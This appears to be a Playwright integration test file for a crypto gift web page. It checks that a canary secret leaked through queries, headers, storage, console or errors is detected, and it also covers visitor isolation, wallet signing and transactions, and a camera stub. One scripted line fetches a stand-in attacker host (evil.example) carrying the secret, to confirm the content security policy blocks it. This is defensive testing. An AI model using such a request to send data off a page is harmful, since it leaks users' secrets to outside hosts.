"""The ground the gift page's tests stand on: a request, a line, a word in the storage that is there is also seen."""

import json

import pytest
from eth_account.messages import encode_typed_data
from playwright.async_api import Browser

from tests.integration.gift_page_browser import InjectedWallet, Visitor, visiting
from tests.integration.gift_page_world import GiftWorld

pytestmark = pytest.mark.asyncio(loop_scope="session")

SECRET = "Canary-Quintessa"


@pytest.mark.own_browser
async def test_a_secret_that_gets_out_is_seen(gift_world: GiftWorld, visitor: Visitor) -> None:
    """In a query, a header, a body, to another host, in each storage, on the console, in an error, in a refusal."""
    page, origin = visitor.page, gift_world.origin
    gift = await gift_world.seal(gift_world.person("ada"))
    await page.goto(gift.url)
    assert SECRET not in await visitor.everything()
    ways = {
        "query": f"() => fetch('/health/live?x={SECRET}1')",
        "header": f"() => fetch('/health/live', {{ headers: {{ 'X-Y': '{SECRET}2' }} }})",
        "body": f"() => fetch('/sponsor/claim', {{ method: 'POST', body: '{SECRET}3' }})",
        "local": f"() => localStorage.setItem('a', '{SECRET}4')",
        "session": f"() => sessionStorage.setItem('a', '{SECRET}5')",
        "cookie": f"() => {{ document.cookie = 'a={SECRET}6'; }}",
        "history": f"() => history.replaceState({{ a: '{SECRET}7' }}, '')",
        "console": f"() => console.warn('{SECRET}8')",
        "database": f"() => new Promise((done) => {{ indexedDB.open('{SECRET}9').onsuccess = () => done(0); }})",
        "refused": f"() => fetch('https://evil.example/{SECRET}10').catch(() => 0)",
        "fault": f"() => {{ setTimeout(() => {{ throw new Error('{SECRET}11'); }}); }}",
    }
    for script in ways.values():
        await page.evaluate(script)
    await page.wait_for_timeout(50)
    seen = await visitor.everything()
    assert [number for number in range(1, 12) if f"{SECRET}{number}" not in seen] == []
    assert visitor.foreign(origin) == []
    assert visitor.violations == [f"connect-src https://evil.example/{SECRET}10"]
    await page.goto("about:blank")
    await page.evaluate("() => fetch('http://elsewhere.example/x').catch(() => 0)")
    assert visitor.foreign(origin) == ["http://elsewhere.example/x"]


async def test_nothing_of_a_visitor_is_left_to_the_next(gift_world: GiftWorld, browser: Browser) -> None:
    """They share a browser, of whose own traffic neither knows."""
    page, seen = f"{gift_world.origin}/health/live", []
    script = """async (secret) => { localStorage.a ??= secret; document.cookie ||= `a=${secret}`;
        const { state } = await navigator.permissions.query({ name: "clipboard-read" });
        return [localStorage.a, document.cookie, state]; }"""
    for secret in (SECRET, "another"):
        async with visiting(browser) as visit:
            visitor = await visit()
            await visitor.page.goto(f"{page}?{secret}")
            seen.append(await visitor.page.evaluate(script, secret))
            await visitor.context.grant_permissions(["clipboard-read"])
            assert [each.url for each in visitor.wire.sent] == [f"{page}?{secret}"]
            with pytest.raises(AssertionError):
                await visitor.everything()
        assert browser.contexts == []
    assert seen == [[SECRET, f"a={SECRET}", "prompt"], ["another", "a=another", "prompt"]]


async def test_a_wallet_of_the_tests_is_found_and_signs(gift_world: GiftWorld, visitor: Visitor) -> None:
    """By EIP-6963; it signs only for the chain it is on, sends a transaction, and can say no."""
    ada = gift_world.scenario.account("ada")
    wallet = InjectedWallet(gift_world.scenario, ada, "Ada's wallet", chain_id=1)
    await visitor.has(wallet, InjectedWallet(gift_world.scenario, ada, "Another", declines={"eth_requestAccounts"}))
    page = visitor.page
    await page.goto(f"{gift_world.origin}/health/live")
    found = await page.evaluate(
        """() => { window.found = []; window.addEventListener("eip6963:announceProvider", (e) => found.push(e.detail));
        window.dispatchEvent(new Event("eip6963:requestProvider")); return found.map((each) => each.info.name); }"""
    )
    assert found == ["Ada's wallet", "Another"]
    ask = """async ([number, method, params]) => {
        try { return await found[number].provider.request({ method, params }); } catch (e) { return e.code; } }"""
    domain = {"name": "x", "chainId": 31337}
    types = {"EIP712Domain": [{"name": "name", "type": "string"}, {"name": "chainId", "type": "uint256"}]}
    data = {"domain": domain, "types": types | {"A": [{"name": "b", "type": "string"}]}, "primaryType": "A"}
    signing = [0, "eth_signTypedData_v4", [ada.address, json.dumps(data | {"message": {"b": "c"}})]]
    assert await page.evaluate(ask, signing) == 4200
    assert await page.evaluate(ask, [0, "wallet_switchEthereumChain", [{"chainId": "0x5"}]]) == 4902
    assert await page.evaluate(ask, [0, "wallet_switchEthereumChain", [{"chainId": hex(31337)}]]) is None
    signed = ada.sign_message(encode_typed_data(full_message=data | {"message": {"b": "c"}}))
    assert await page.evaluate(ask, signing) == signed.signature.to_0x_hex()
    payment = {"from": ada.address, "to": gift_world.person("bob").address, "value": hex(7)}
    sent = await page.evaluate(ask, [0, "eth_sendTransaction", [payment]])
    assert gift_world.scenario.anvil.receipt(sent)["status"] == "0x1"
    assert gift_world.scenario.balance(None, gift_world.person("bob").address) == 7
    assert await page.evaluate(ask, [1, "eth_requestAccounts", []]) == 4001
    assert len(wallet.asked("eth_signTypedData_v4")) == 2


async def test_the_camera_stand_in_sees_what_is_held_before_it(gift_world: GiftWorld, visitor: Visitor) -> None:
    await visitor.has_barcode_detector()
    await visitor.page.goto(f"{gift_world.origin}/health/live")
    await visitor.holds_before_camera("0x12")
    seen = await visitor.page.evaluate(
        """async () => { const stream = await navigator.mediaDevices.getUserMedia({ video: true });
        const video = document.createElement("video"); video.srcObject = stream; await video.play();
        const found = await new BarcodeDetector({ formats: ["qr_code"] }).detect(video);
        stream.getTracks().forEach((track) => track.stop()); return found[0].rawValue; }"""
    )
    assert seen == "0x12"
